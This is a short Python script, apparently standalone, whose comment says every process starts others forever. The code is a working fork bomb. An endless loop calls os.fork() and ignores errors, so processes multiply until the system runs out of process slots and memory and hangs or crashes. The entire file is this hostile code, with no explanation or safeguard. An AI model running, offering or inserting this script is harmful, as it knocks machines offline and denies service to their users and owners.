# time: every process starts others for ever
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
